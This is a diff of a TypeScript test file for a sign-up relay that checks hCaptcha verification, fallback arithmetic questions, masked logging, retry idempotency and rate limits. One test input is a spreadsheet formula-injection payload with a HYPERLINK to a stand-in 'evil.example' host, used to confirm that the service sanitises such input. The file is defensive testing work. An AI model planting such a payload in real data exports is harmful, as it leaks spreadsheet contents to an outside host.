@@ -98,7 +98,7 @@ const token = () => `P1_token-${++count}`;
 const newEmail = () => `novo${++count}@exemplo.com`;
 
 describe("relaying a valid sign-up", () => {
-  it("verifies the token with siteverify (secret, response, sitekey, remoteip), then relays the trimmed e-mail, the token, the configured source, the time and the user agent without a formula's start", async () => {
+  it("verifies the token with siteverify (secret, response, sitekey, remoteip), then relays the trimmed e-mail, the token, the configured source, the time and the user agent without a formula's start; logs one line, the e-mail masked", async () => {
     const signup = verifying({ SIGNUP_SOURCE: "lp-previdencia" });
     const response = token();
     const formula = ' +-@=HYPERLINK("https://evil.example/?leak="&A2)';
@@ -118,6 +118,9 @@ describe("relaying a valid sign-up", () => {
       userAgent,
     });
     expect(new Date(body.ts!).toISOString()).toBe(body.ts);
+    const line = { event: "signup", outcome: "relayed", status: 200, email: "a***@exemplo.com.br" };
+    expect(logs).toMatchObject([{ ...line, durationMs: expect.any(Number) }]);
+    expect(JSON.stringify(logs)).not.toContain(EMAIL);
   });
 
   it("without HCAPTCHA_SECRET relays the token unverified; without a user agent, an empty one", async () => {
@@ -126,20 +129,6 @@ describe("relaying a valid sign-up", () => {
     await makeSignup({ HCAPTCHA_VERIFY_URL: standIn.siteverifyUrl }).handle(request);
     expect(standIn.received.siteverify).toHaveLength(0);
     expect(JSON.parse(standIn.received.webhook[0]!.raw)).toMatchObject({ email: EMAIL, userAgent: "" });
-  });
-
-  it("logs one structured line per outcome, with the e-mail masked and never the webhook URL", async () => {
-    const signup = makeSignup();
-    await submit(signup, { email: "ana.souza@exemplo.com.br", hcaptchaToken: token() });
-    standIn.webhook = { status: 500, text: "erro" };
-    await submit(signup, { email: "bruno@exemplo.com.br", hcaptchaToken: token() });
-    expect(logs.map(({ event, outcome, status, email }) => [event, outcome, status, email])).toEqual([
-      ["signup", "relayed", 200, "a***@exemplo.com.br"],
-      ["signup", "webhook-status-500", 502, "b***@exemplo.com.br"],
-    ]);
-    expect(typeof logs[0]!.durationMs).toBe("number");
-    expect(JSON.stringify(logs)).not.toContain(standIn.webhookUrl);
-    expect(JSON.stringify(logs)).not.toContain("ana.souza");
   });
 });
 
@@ -213,7 +202,7 @@ describe("a call that fails", () => {
     ]);
   });
 
-  it("a failed relay is relayed again on the next press, with the same captcha or a new one, under the same Idempotency-Key (the automation can drop a double)", async () => {
+  it("a failed relay is relayed again on the next press, with the same captcha or a new one, under the same Idempotency-Key (the automation can drop a double); each outcome logged, never the webhook's URL", async () => {
     const signup = makeSignup();
     const captcha = token();
     const statuses = [];
@@ -230,6 +219,9 @@ describe("a call that fails", () => {
     const keys = standIn.received.webhook.map((hit) => hit.headers["idempotency-key"]);
     expect([statuses, keys.length, new Set(keys).size]).toEqual([[502, 502, 200], 3, 1]);
     expect(keys[0]).toMatch(/^[A-Za-z0-9_-]{43}$/);
+    const outcomes = logs.map(({ outcome }) => outcome);
+    expect(outcomes).toEqual([expect.stringMatching(/^webhook-unreachable-/), "webhook-status-503", "relayed"]);
+    expect(JSON.stringify(logs)).not.toContain(standIn.webhookUrl);
   });
 });
 
@@ -239,17 +231,6 @@ describe("the fallback question", () => {
   const askedUnder = (secret: string, now?: number) =>
     new FallbackQuestions(new SignedTokens(secret), answersLimit(), "").ask(now);
   const expired = () => askedUnder(SECRET, Date.now() - QUESTION_TTL_MS - 1);
-
-  it("a wrong answer → 400 with a clear message and a new question, e-mail kept", async () => {
-    const signup = makeSignup();
-    const proof = answered(signup, 1);
-    const { status, result } = await submit(signup, { email: EMAIL, ...proof });
-    const notice = { title: "Resposta incorreta", description: "Confira a conta e responda à nova pergunta." };
-    expect([status, result.notice, result.email]).toEqual([400, notice, EMAIL]);
-    expect(result.question?.text).toMatch(/^Quanto é/);
-    expect(result.question?.token).not.toBe(proof.challengeToken);
-    expect(standIn.received.webhook).toHaveLength(0);
-  });
 
   it("an invalid e-mail sends a live question of ours back with its answer (one from before a secret's rotation too), and none that is not", async () => {
     const state = memoryState();
@@ -272,28 +253,38 @@ describe("the fallback question", () => {
     }
   });
 
-  it("a question expired, signed with another secret or with its expiry spelled otherwise → 'Pergunta expirada' and a new one", async () => {
+  it("a question expired, signed with another secret, with its expiry spelled otherwise, or relayed before a restart without Redis → 'Pergunta expirada' and a new one", async () => {
+    const beforeRestart = makeSignup();
+    const relayed = answered(beforeRestart);
+    expect((await submit(beforeRestart, { email: EMAIL, ...relayed })).status).toBe(200);
+    // The same kept secret, a new process's memory.
     const signup = makeSignup();
     const live = signup.formTokens().question;
     const [id, expiry, mac] = live.token.split(".") as [string, string, string];
     const respelled = [`0${expiry}`, `+${expiry}`, `${expiry}e0`, ` ${expiry}`].map((at) => `${id}.${at}.${mac}`);
     const others = [expired(), askedUnder("another-secret-another-secret-000")];
-    for (const question of [...others, ...respelled.map((token) => ({ ...live, token }))]) {
-      const { status, result } = await submit(signup, { email: EMAIL, ...answering(question) });
+    const questions = [...others, ...respelled.map((token) => ({ ...live, token }))];
+    for (const proof of [...questions.map((question) => answering(question)), relayed]) {
+      const { status, result } = await submit(signup, { email: EMAIL, ...proof });
       expect([status, result.notice.title, result.question?.text]).toEqual([
         400,
         "Pergunta expirada",
         expect.any(String),
       ]);
     }
-    expect(standIn.received.webhook).toHaveLength(0);
+    expect(standIn.received.webhook).toHaveLength(1);
   });
 
-  it("a correct answer stands in for the captcha (the same body, an empty hcaptchaToken), three times at most a question; wrong ones spend none", async () => {
+  it("a correct answer stands in for the captcha (the same body, an empty hcaptchaToken), three times at most a question; a wrong one → 400, a clear message and a new question, the e-mail kept, spending none", async () => {
     const signup = makeSignup({ TRUST_PROXY: "1" });
-    const proof = answered(signup);
-    for (let attempt = 0; attempt < 5; attempt++)
-      await submit(signup, { email: newEmail(), ...answered(signup, 1), challengeToken: proof.challengeToken });
+    const question = signup.formTokens().question;
+    const proof = answering(question);
+    const notice = { title: "Resposta incorreta", description: "Confira a conta e responda à nova pergunta." };
+    for (let attempt = 0; attempt < 5; attempt++) {
+      const { status, result } = await submit(signup, { email: EMAIL, ...answering(question, 1) });
+      expect([status, result.notice, result.email]).toEqual([400, notice, EMAIL]);
+      expect(result.question!.token).not.toBe(proof.challengeToken);
+    }
     const statuses: number[] = [];
     for (let index = 0; index < 4; index++)
       statuses.push((await submit(signup, { email: `${index}${EMAIL}`, ...proof }, at(`203.0.113.${index}`))).status);
@@ -392,15 +383,6 @@ describe("the fallback question", () => {
     expect([[...statuses], counted.filter((name) => name !== "form-presses")]).toEqual([[400], []]);
     expect((await submit(signup, { email: EMAIL, ...answering(question) }, at("203.0.113.50"))).status).toBe(200);
     expect(standIn.relayedEmails()).toEqual([EMAIL]);
-  });
-
-  it("without Redis, a question relayed before a restart is expired after it, never relayed again", async () => {
-    const beforeRestart = makeSignup();
-    const fields = { email: EMAIL, ...answered(beforeRestart) };
-    expect((await submit(beforeRestart, fields)).status).toBe(200);
-    // The same kept secret, a new process's memory.
-    const { status, result } = await submit(makeSignup(), fields);
-    expect([status, result.notice.title, standIn.received.webhook.length]).toEqual([400, "Pergunta expirada", 1]);
   });
 });
 
@@ -600,7 +582,7 @@ describe("limits that fit real networks", () => {
     expect([visitors, bot, standIn.received.webhook.length]).toEqual([Array(40).fill(200), Array(100).fill(400), 40]);
   });
 
-  it("forged tokens, however many at once, spend none of the relay ceiling: the genuine visitor after 30 of them is relayed", async () => {
+  it("the global relay ceiling protects the webhook with 429, and forged tokens, however many at once, spend none of it: the genuine visitors after 30 of them are relayed up to it", async () => {
     freezeClock();
     standIn.siteverify = { success: true, genuinePrefix: "genuine-" };
     const signup = verifying({ RELAY_LIMIT_PER_SECOND: "2" });
@@ -609,14 +591,10 @@ describe("limits that fit real networks", () => {
     expect(forged.filter((answer) => answer.status !== 400 && answer.status !== 502)).toEqual([]);
     const person = await submit(signup, { email: EMAIL, hcaptchaToken: "genuine-1" }, from("203.0.113.50"));
     expect([person.status, person.result.notice, standIn.relayedEmails()]).toEqual([200, SUCCESS, [EMAIL]]);
-  });
-
-  it("the global relay ceiling protects the webhook with 429", async () => {
-    freezeClock();
-    const signup = makeSignup({ RELAY_LIMIT_PER_SECOND: "2" });
     const statuses = [];
-    for (let visitor = 0; visitor < 3; visitor++) statuses.push((await genuine(signup, {})).status);
-    expect([statuses, standIn.received.webhook.length]).toEqual([[200, 200, 429], 2]);
+    for (const visitor of [2, 3])
+      statuses.push((await genuine(signup, from(`203.0.113.5${visitor}`), `genuine-${visitor}`)).status);
+    expect([statuses, standIn.received.webhook.length]).toEqual([[200, 429], 2]);
   });
 });
 
